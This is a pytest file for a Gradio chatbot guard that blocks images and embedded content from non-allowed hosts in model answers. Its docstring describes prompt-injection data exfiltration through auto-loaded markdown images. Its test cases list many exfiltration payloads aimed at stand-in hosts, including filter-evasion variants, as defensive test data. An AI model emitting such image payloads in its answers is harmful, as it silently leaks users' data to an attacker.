"""guard_chat: an answer shown in Gradio's Chatbot loads no image or other content from a host not allowed.

Gradio renders an answer's Markdown and keeps <img>: after a prompt injection, an answer showing
``![x](https://attacker.example/?q=<data>)`` made the browser send the data as it drew the answer, no click."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from clauseguard.errors import GuardConfigError
from clauseguard.guards import GuardSpec, Pipeline
from tests.gradio_chat import KINDS, fake_request
from tests.gradio_chat import answers as _answers_as
from tests.gradio_chat import returning as _returning

EVIL = "[image from evil.example not shown]"
LOADED = "[content from evil.example not loaded]"


@pytest.fixture
def gr(monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.setenv("GRADIO_ANALYTICS_ENABLED", "False")
    return pytest.importorskip("gradio", reason="guard_chat needs the [gradio] extra")


def _remote(mode: str = "text", hosts: tuple[str, ...] = ("cdn.example.com",)) -> Any:
    from clauseguard.guards.gradio import _Remote

    return _Remote.of(mode, hosts)


@pytest.mark.parametrize(("text", "shown"), [
    ("See ![chart](https://evil.example/?q=secret) here", f"See {EVIL} here"),
    ("![x](https://evil.example/p.png?q=Jane%20Doe%2C%20jane%40example.org)", EVIL),
    ('![x](<https://evil.example/a b> "title")', EVIL),
    ("![x](https://evil.example/(a)b)", EVIL),
    ("![x](//evil.example/p)", EVIL),
    ("![x](https://cdn.example.com@evil.example/)", EVIL),  # the host is after the @
    ("![a [nested] alt](https://evil.example/)", EVIL),
    ("![ref][r]\n\n[r]: https://evil.example/?q=1", "!\\[ref][r]\n\n[r]: https://evil.example/?q=1"),  # text
    ('x <img src="https://evil.example/a?d=1" alt=y> z', f"x {LOADED} z"),
    ("<IMG SRC=&#104;ttps://evil.example/a>", LOADED),  # an entity in the url
    ("<img/src=https://evil.example/a>", LOADED),
    ('<img srcset="https://cdn.example.com/a 1x, https://evil.example/b 2x">', LOADED),
    ("<video poster='//evil.example/p'></video>", f"{LOADED}</video>"),
    ("<audio src=https://evil.example/a></audio>", f"{LOADED}</audio>"),
    ('<div style="background:url(https://evil.example/x)">hi</div>', f"{LOADED}hi</div>"),
    ('<p style="background:\\75rl(https://evil.example/x)">', "[content from another site not loaded]"),
    ("<link rel=stylesheet href=https://evil.example/s.css>", LOADED),
    ("<object data=https://evil.example/o></object>", f"{LOADED}</object>"),
    ("<iframe src=https://cdn.example.com/x></iframe>", "[content from another site not loaded]</iframe>"),
    ("<base href=https://evil.example/>", LOADED),
    ("partial <img src=\"https://evil", "partial &lt;img src=\"https://evil"),  # shown as text
    # nothing sent elsewhere: kept as they are
    ("![c](https://img.cdn.example.com/a.png \"t\")", "![c](https://img.cdn.example.com/a.png \"t\")"),
    ("![x](/gradio_api/file=a.png) ![y](data:image/png;base64,AAA)",
     "![x](/gradio_api/file=a.png) ![y](data:image/png;base64,AAA)"),
    ("<a href='https://evil.example'>a link</a>, <b>bold</b>",
     "<a href='https://evil.example'>a link</a>, <b>bold</b>"),
    ("for (i=0;i<n;i++) a < b", "for (i=0;i<n;i++) a < b"),
    ("[a link](https://evil.example/)", "[a link](https://evil.example/)"),  # followed on a click only
])
def test_remote_content_is_shown_as_text(text: str, shown: str) -> None:
    assert _remote().shown(text) == shown


@pytest.mark.parametrize(("text", "held"), [
    ("Look: ![x](https://evil.example/?q=sec", "Look: "),
    ("Look: <img src=\"https://evil", "Look: "),
    ("Look: <img", "Look: "),
    ("Look: ![x](https://evil.example/?q=secret) and", f"Look: {EVIL} and"),
])
def test_a_stream_holds_back_an_image_not_closed_yet(text: str, held: str) -> None:
    assert _remote().shown(text, final=False) == held


def test_remove_and_keep() -> None:
    text = "A ![x](https://evil.example/?q=1) B"
    assert _remote("remove").shown(text) == "A  B"
    assert _remote("keep").shown(text) == text
    assert _remote(hosts=("example",)).shown(text) == text  # a host's subdomains are allowed with it


@pytest.mark.parametrize(("options", "named"), [
    ({"remote_images": "link"}, "remote_images must be one of"),
    ({"allowed_hosts": "cdn.example.com"}, "allowed_hosts must be a list of host names"),
    ({"allowed_hosts": [""]}, "allowed_hosts must be a list of host names"),
])
def test_bad_options_are_an_error(gr: Any, options: dict[str, Any], named: str) -> None:
    from clauseguard.guards.gradio import guard_chat

    with pytest.raises(GuardConfigError, match=named):
        guard_chat(_returning("ok"), Pipeline([]), **options)


def _pipeline() -> Pipeline:
    return Pipeline([GuardSpec(id="pii", type="pii", stage="output", on_fail="redact", params={"entities": ["email"]}),
                     GuardSpec(id="disclose", type="ai_disclosure", stage="output", on_fail="label",
                               params={"notice": ""})])


def _answers(fn: Any) -> list[Any]:
    return _answers_as(fn, request=fake_request(username="remote"))


ANSWER = 'Done. ![x](https://evil.example/p.png?q=sk_live_51HxQ2) and <img src="https://evil.example/p?d=1">'
SHOWN = f"Done. {EVIL} and {LOADED}\n\n[AI-generated]"


@pytest.mark.parametrize("kind", KINDS)
def test_guard_chat_shows_remote_images_as_text(gr: Any, kind: str) -> None:
    from clauseguard.guards.gradio import guard_chat

    assert _answers(guard_chat(_returning(ANSWER, kind), _pipeline()))[-1] == SHOWN
    (message,) = _answers(guard_chat(_returning([gr.ChatMessage(content=ANSWER)], kind), _pipeline()))[-1]
    assert message.content == SHOWN
    assert _answers(guard_chat(_returning(ANSWER, kind), _pipeline(), remote_images="keep"))[-1] == (
        f"{ANSWER}\n\n[AI-generated]")


@pytest.mark.parametrize("messages", [False, True])
def test_a_streamed_answer_never_shows_an_image_to_another_host(gr: Any, messages: bool) -> None:
    from clauseguard.guards.gradio import guard_chat

    def respond(message: str, history: list[Any]) -> Iterator[Any]:
        text = ""
        for char in ANSWER:
            text += char
            yield gr.ChatMessage(content=text) if messages else text

    shown = [item.content if messages else item for item in _answers(guard_chat(respond, _pipeline()))]
    assert shown[-1] == SHOWN and not any("evil.example/p" in item for item in shown)


def test_a_delta_stream_is_screened_as_a_whole(gr: Any) -> None:
    from clauseguard.guards.gradio import guard_chat

    def respond(message: str, history: list[Any]) -> Iterator[str]:
        yield from ANSWER

    shown = _answers(guard_chat(respond, _pipeline(), stream="delta"))
    assert "".join(shown) == SHOWN and not any("evil.example/p" in item for item in shown)


@pytest.mark.parametrize("text", ["![" * 10_000, "<a " * 10_000, '<a "' * 10_000, "x" * 20_000 + "![" * 10_000])
def test_a_long_run_of_openings_costs_little(text: str) -> None:
    """Each streamed item is screened whole: an answer of many unclosed images or tags must not cost seconds."""
    import time

    started = time.perf_counter()
    for final in (True, False):
        _remote().shown(text, final=final)
    assert time.perf_counter() - started < 2
